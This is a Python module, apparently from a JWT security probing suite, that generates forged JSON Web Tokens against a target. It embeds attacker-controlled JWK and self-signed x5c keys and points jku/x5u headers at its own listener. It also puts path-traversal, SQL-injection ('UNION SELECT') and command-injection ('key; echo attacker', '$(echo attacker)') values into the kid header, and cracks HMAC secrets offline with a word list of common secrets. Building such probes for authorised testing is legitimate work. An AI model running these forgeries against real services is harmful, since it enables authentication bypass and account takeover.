"""Tokens that bring their own key, point to one, or were signed with one that anybody can guess."""

import json
from base64 import b64encode
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from jwt.algorithms import HMACAlgorithm, get_default_algorithms

from suites.probes.jwt_encoding import Token
from suites.probes.jwt_forgery import (
    KEY,
    Forgery,
    Material,
    own_algorithm,
    own_key,
    with_key,
    with_mac,
)

KID = "attacker"
COMMON_SECRETS = (
    *("secret", "Secret", "SECRET", "secretkey", "secret-key", "secret_key", "secretKey"),
    *("mysecret", "my-secret", "my_secret", "mysecretkey", "supersecret", "super-secret"),
    *("super_secret", "topsecret", "jwt", "jwtsecret", "jwt-secret", "jwt_secret", "jwtSecret"),
    *("JWT_SECRET", "JWT_SECRET_KEY", "JWT_SECRET_KEY_HERE", "SECRET_KEY", "secret123"),
    *("password", "Password1", "password123", "passw0rd", "123456", "12345678", "1234567890"),
    *("changeme", "change-me", "changeit", "change_this", "default", "key", "private", "token"),
    *("test", "testing", "dev", "development", "admin", "root", "qwerty", "letmein", "foobar"),
    *("your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "your_secret_key"),
    *("your-secret-key", "your_jwt_secret", "yoursecret", "shhhhh", "shhhhhhared-secret"),
    *("keyboard cat", "node-jsonwebtoken", "django-insecure", "hs256-secret", "api", "auth"),
    *("a" * 32, "0" * 32, "", "\0", "null", "undefined"),
)
_ATTACHED = ("", "-secret", "_secret", "secret", "-key", "_key", "-jwt", "123", "1")
_FILES = {
    "../../../../../../../dev/null": b"",
    "../../dev/null": b"",
    "/dev/null": b"",
    "file:///dev/null": b"",
    "../../../../../../../proc/sys/kernel/randomize_va_space": b"2\n",
    "": b"",
}
_SELECTED = "attacker"
_QUERIES = (
    f"x' UNION SELECT '{_SELECTED}'-- ",
    f'x" UNION SELECT "{_SELECTED}"-- ',
    f"0 UNION SELECT '{_SELECTED}'-- ",
)
_COMMANDS = ("key; echo attacker", "key | echo attacker", "$(echo attacker)")


def keyed(token: Token, material: Material) -> Iterator[Forgery]:
    """Yield perfect copies of the live claims under keys that no trusted source has."""
    algorithm = own_algorithm(token)
    described = own_jwk(algorithm)
    kept = {k: v for k, v in token.header.items() if k not in {"jwk", "jku", "x5u", "x5c"}}

    def own(name: str, group: str, **fields: Any) -> Forgery:
        made = with_key({**kept, **fields}, token.claims, algorithm)
        return Forgery(name, group, KEY, made)

    yield own("our key under the genuine kid", "own key")
    yield own("our key under another kid", "own key", kid=KID)
    yield own("embedded jwk", "embedded key", jwk=described)
    yield own("embedded jwk under its kid", "embedded key", jwk=described, kid=KID)
    chain = [b64encode(certificate(algorithm, Encoding.DER)).decode()]
    yield own("self-signed x5c", "embedded key", x5c=chain)
    if material.listener is not None:
        yield from _pointing(material, own, algorithm)
    for kid, secret in _FILES.items():
        made = with_mac({**kept, "kid": kid}, token.claims, secret)
        yield Forgery(f"kid {kid!r}", "path in kid", KEY, made)
    for kid in (*_QUERIES, *_COMMANDS):
        made = with_mac({**kept, "kid": kid}, token.claims, _SELECTED.encode())
        yield Forgery(f"kid {kid!r}", "query in kid", KEY, made)
    yield from _guessed(token, material)


def _pointing(material: Material, own: Any, algorithm: str) -> Iterator[Forgery]:
    at = material.listener
    material.served["/jwks.json"] = json.dumps({"keys": [own_jwk(algorithm)]}).encode()
    material.served["/cert.pem"] = certificate(algorithm, Encoding.PEM)
    yield own("jku of ours", "fetched key", jku=f"{at}/jwks.json", kid=KID)
    yield own("x5u of ours", "fetched key", x5u=f"{at}/cert.pem", kid=KID)
    yield own("kid that is an address of ours", "fetched key", kid=f"{at}/jwks.json")


def _guessed(token: Token, material: Material) -> Iterator[Forgery]:
    """Yield a copy under the secret, if it is one that can be guessed."""
    if not token.algorithm.startswith("HS"):
        made = with_mac(token.header, token.claims, b"")
        yield Forgery("HS256 with an empty secret", "weak secret", KEY, made)
        return
    found = guess(token, dictionary(material.words))
    if found is not None:
        claims = {**token.claims, "nonce": "forged"}
        made = with_mac(token.header, claims, found.encode(), token.algorithm)
        yield Forgery("signed with a secret found in a word list", "weak secret", KEY, made)


def dictionary(words: Sequence[str]) -> tuple[str, ...]:
    """Return the secrets to try: common ones, and those made of the names around the target."""
    cases = (case(word) for word in words for case in (str, str.lower, str.upper, str.title))
    made = (word + tail for word in cases if word for tail in _ATTACHED)
    return tuple(dict.fromkeys((*COMMON_SECRETS, *made)))


def guess(token: Token, words: Sequence[str]) -> str | None:
    """Return the word that a token's MAC was made with, if one was; nothing is sent for it."""
    algorithm = get_default_algorithms().get(token.algorithm)
    if not isinstance(algorithm, HMACAlgorithm):
        return None
    signed, genuine = token.text.rpartition(".")[0].encode(), token.signature
    return next((w for w in words if algorithm.verify(signed, w.encode(), genuine)), None)


def own_jwk(algorithm: str) -> dict[str, Any]:
    """Return our public key as a JWK."""
    kind = get_default_algorithms()[algorithm]
    described = json.loads(kind.to_jwk(own_key(algorithm).public_key()))
    public = {k: v for k, v in described.items() if k != "key_ops"}
    return {**public, "kid": KID, "alg": algorithm, "use": "sig"}


@cache
def certificate(algorithm: str, encoding: Encoding) -> bytes:
    """Return a self-signed certificate of our key."""
    key, now = own_key(algorithm), datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, KID)])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(key, None if algorithm == "EdDSA" else hashes.SHA256())
    )
    return made.public_bytes(encoding)
